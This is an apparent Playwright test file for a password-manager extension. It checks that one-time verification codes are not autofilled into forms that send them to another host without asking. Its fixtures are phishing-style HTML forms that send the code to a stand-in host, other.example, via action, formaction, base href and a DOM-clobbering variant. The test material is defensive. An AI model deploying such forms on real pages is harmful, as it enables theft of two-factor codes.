import type { Page as Tab } from '@playwright/test';
import { createVaultWithSam, expect, ORIGIN, test } from './fixtures';
import { logInAtKiosk } from './kiosk';

/** T21: a genuine page whose form sends the code elsewhere. */

const BOX =
  '<label>Verification code <input id="verification-code" inputmode="numeric" maxlength="6"></label>';

const box = (tab: Tab) => tab.locator('#verification-code');

async function show(tab: Tab, form: string): Promise<void> {
  await tab.route(`${ORIGIN}/check`, (route) =>
    route.fulfill({
      contentType: 'text/html',
      body: `<!doctype html><title>Portal</title><h1>Two-factor authentication</h1><p>Enter the code from your authenticator app.</p>${form}`,
    }),
  );
}

const FORMS = [
  [
    'action',
    `<form method="post" action="https://other.example/take">${BOX}<button>Verify</button></form>`,
    'other.example',
  ],
  [
    'action, and a box called so',
    `<form method="post" action="https://other.example/take"><input type="hidden" name="action" value="/"><input type="hidden" name="getAttribute">${BOX}<button>Verify</button></form>`,
    'other.example',
  ],
  [
    'formaction',
    `<form method="post">${BOX}<button formaction="https://other.example/take">Verify</button></form>`,
    'other.example',
  ],
  [
    'formaction of a button outside',
    `<form id="f" method="post">${BOX}</form><button form="f" formaction="https://other.example/take">Verify</button>`,
    'other.example',
  ],
  [
    'base',
    `<base href="https://other.example/"><form method="post" action="take">${BOX}<button>Verify</button></form>`,
    'other.example',
  ],
  ['GET', `<form method="get">${BOX}<button>Verify</button></form>`, ''],

  ['its own origin', `<form method="post" action="/login/code">${BOX}<button>Verify</button></form>`, null],
  [
    'a form that a script sends',
    `<form action="javascript:void 0">${BOX}<button>Verify</button></form>`,
    null,
  ],
  ['no form', `${BOX}<button>Verify</button>`, null],
] as const;

test('not by itself; in the popup it is said where, and asked', async ({ context, lanyard }) => {
  await createVaultWithSam(lanyard);
  const tab = await context.newPage();
  await show(tab, FORMS[0][1]);
  await logInAtKiosk(tab);
  await tab.waitForTimeout(2000);
  await expect(box(tab)).toHaveValue('');
  const popup = await lanyard.popup(tab);
  await popup.click('Fill');
  await popup.see('This page sends the code to other.example. Fill anyway?');
  await expect(box(tab)).toHaveValue('');
  await popup.click('Fill anyway');
  await expect(box(tab)).toHaveValue(/^\d{6}$/);
});

test('wherever a form can say it, and nowhere else', async ({ context, lanyard }) => {
  test.setTimeout(180_000);
  const accountId = await createVaultWithSam(lanyard);
  const tab = await context.newPage();
  for (const [what, form, sendsTo] of FORMS)
    await test.step(what, async () => {
      await tab.unrouteAll();
      await show(tab, form);
      await tab.goto(`${ORIGIN}/check`);
      const fill = { tabId: await lanyard.tabInFront(), accountId, again: true };
      if (sendsTo !== null) {
        const failure = sendsTo === '' ? 'sent-in-address' : 'sent-elsewhere';
        await expect(lanyard.ask('fill/active-tab', fill), what).rejects.toThrow(failure);
        // Agreed to for another host is not agreed to.
        const other = { ...fill, sendsTo: 'third.example' };
        await expect(lanyard.ask('fill/active-tab', other), what).rejects.toThrow(failure);
        await expect(box(tab), what).toHaveValue('');
        await lanyard.ask('fill/active-tab', { ...fill, sendsTo });
      } else await lanyard.ask('fill/active-tab', fill);
      await expect(box(tab), what).toHaveValue(/^\d{6}$/);
    });
});
